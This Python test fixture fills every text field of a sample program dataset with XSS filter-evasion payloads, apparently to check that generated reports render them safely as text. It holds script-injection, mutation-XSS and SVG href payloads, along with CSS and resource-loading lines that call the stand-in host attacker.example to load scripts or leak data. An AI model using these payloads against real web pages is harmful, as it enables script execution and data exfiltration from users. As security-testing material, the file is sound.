"""Hostile text for every text cell of a cohort: XSS filter-evasion payloads (after OWASP's "XSS Filter Evasion Cheat
Sheet") and CSS / resource-loading tricks that would leak data to another address without any script.

Every payload that could run reports itself with ``alert(…)``, ``confirm(…)`` or ``prompt(…)`` (a browser dialog),
and every payload that could load something points at ``attacker.example`` (a request). A safe page shows each one
as the characters typed, raises no dialog and makes no request.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://attacker.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000041\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://attacker.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(2)</script>\"></iframe>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://attacker.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
    "<img src=x onerror=confirm(3)>",
    "<body onpageshow=prompt(4)>",
    "<details open ontoggle=alert(5)>",
    "\"><img src=x onerror=alert(6)>",
    "'><script>alert(7)</script>",
    "javascript:alert(8)",
    # mutation XSS: markup that changes meaning when a sanitizer's output is parsed again
    "<svg><style><img src=x onerror=alert(11)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(13)>\">",
    "<template><img src=x onerror=alert(14)></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(15)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(16)>",
    # SVG animation that sets href
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(17) /><a id=x><text x=20 y=20>go</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(18) /><text x=20 y=20>go</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(19) /><text x=20 y=20>go</text></a></svg>",
    "<form><button formaction=javascript:alert(20)>go</button></form>",
    # markdown: a link and an image written as markdown
    "[click](javascript:alert(21))",
    "![pixel](https://attacker.example/pixel.png)",
    "<https://attacker.example/autolink>",
]

EXFILTRATION = [
    "<style>body{background:url(https://attacker.example/bg)}</style>",
    "<div style=\"background:image-set('https://attacker.example/a.png' 1x)\">x</div>",
    "<style>@import url(https://attacker.example/x.css);</style>",
    "<style>@import 'https://attacker.example/y.css';</style>",
    "<style>td[class^=a]{background:url(https://attacker.example/a)}</style>",
    "<style>@font-face{font-family:x;src:url(https://attacker.example/f.woff)}body{font-family:x}</style>",
    "<div style=\"list-style:url(https://attacker.example/l.png)\">x</div>",
    "<link rel=stylesheet href=https://attacker.example/s.css>",
    "<img srcset=\"https://attacker.example/s.png 2x\">",
    "<video poster=https://attacker.example/p.jpg></video>",
    "<svg><image href=https://attacker.example/i.png /></svg>",
    "<svg><use href=https://attacker.example/s.svg#a /></svg>",
    "<svg><feImage href=https://attacker.example/f.png /></svg>",
    "<base href=https://attacker.example/>",
    "<iframe src=https://attacker.example/></iframe>",
    "<input type=image src=https://attacker.example/in.png>",
    "<audio src=https://attacker.example/a.mp3 autoplay></audio>",
    "<object data=https://attacker.example/o></object>",
]

PAYLOADS = SCRIPT + EXFILTRATION

#: shown in the report by the phases whatever the data say (a table row or a caption), so the test can check that
#: these are shown as text
SHOWN = {
    "department": "<img src=x onerror=alert(1)>",
    "cost item": "<svg><style><img src=x onerror=alert(11)></style></svg>",
    "intangible": "<style>@import url(https://attacker.example/x.css);</style>",
    "program": "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
}


def _cycle(k: int) -> str:
    return PAYLOADS[k % len(PAYLOADS)]


def hostile_cohort(example: Path, target: Path) -> Path:
    """A copy of the example cohort with a payload in every text cell: departments, locations, generations, levels,
    skills offered and wanted, interests, time slots, check-in topics and notes, cost items and notes, leaving
    reasons, decision notes, and the program's name, sponsor, feedback plan, objective descriptions and intangibles.
    The numbers, ids and choices stay valid, so every phase runs."""
    shutil.copytree(example, target)
    people = pd.read_csv(target / "participants.csv", dtype=str, keep_default_na=False)
    departments = sorted(set(people["department"]) - {""})
    rename = {d: (SHOWN["department"] if k == 0 else _cycle(k + 20)) for k, d in enumerate(departments)}
    people["department"] = people["department"].map(lambda d: rename.get(d, d))
    for column, start in (("location", 30), ("generation", 40), ("level", 45)):
        values = sorted(set(people[column]) - {""})
        mapping = {v: _cycle(start + k) for k, v in enumerate(values)}
        people[column] = people[column].map(lambda v, mapping=mapping: mapping.get(v, v))
    for k in range(len(people)):
        payload = _cycle(k).replace(";", ",")  # one list element, not split at ';'
        people.loc[k, "offers"] = f"{people.loc[k, 'offers']}; {payload}".strip("; ")
        people.loc[k, "wants"] = f"{people.loc[k, 'wants']}; {_cycle(k + 1).replace(';', ',')}".strip("; ")
        people.loc[k, "interests"] = f"{people.loc[k, 'interests']}; {payload}".strip("; ")
        people.loc[k, "availability"] = f"{people.loc[k, 'availability']}; {_cycle(k + 2).replace(';', ',')}".strip("; ")
    people.to_csv(target / "participants.csv", index=False)

    checkins = pd.read_csv(target / "checkins.csv", dtype=str, keep_default_na=False)
    checkins["topics"] = [f"{t}; {_cycle(k).replace(';', ',')}".strip("; ") for k, t in enumerate(checkins["topics"])]
    checkins["note"] = [_cycle(k + 3) for k in range(len(checkins))]
    checkins.to_csv(target / "checkins.csv", index=False)

    costs = pd.read_csv(target / "costs.csv", dtype=str, keep_default_na=False)
    costs["item"] = [SHOWN["cost item"] if k == 0 else _cycle(k + 5) for k in range(len(costs))]
    costs["note"] = [_cycle(k + 9) for k in range(len(costs))]
    costs.to_csv(target / "costs.csv", index=False)

    outcomes = pd.read_csv(target / "outcomes.csv", dtype=str, keep_default_na=False)
    outcomes["end_reason"] = [_cycle(k) if e else "" for k, e in enumerate(outcomes["end_date"])]
    outcomes.to_csv(target / "outcomes.csv", index=False)

    decisions = pd.read_csv(target / "decisions.csv", dtype=str, keep_default_na=False)
    decisions["note"] = [_cycle(k + 11) for k in range(len(decisions))]
    decisions.to_csv(target / "decisions.csv", index=False)

    import yaml

    program = yaml.safe_load((target / "program.yaml").read_text(encoding="utf-8"))
    program.update(program=SHOWN["program"], sponsor=_cycle(13), feedback=_cycle(14),
                   intangibles=[SHOWN["intangible"], _cycle(15)])
    for k, objective in enumerate(program["objectives"]):
        objective["description"] = _cycle(16 + k)
    (target / "program.yaml").write_text(yaml.safe_dump(program, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return target
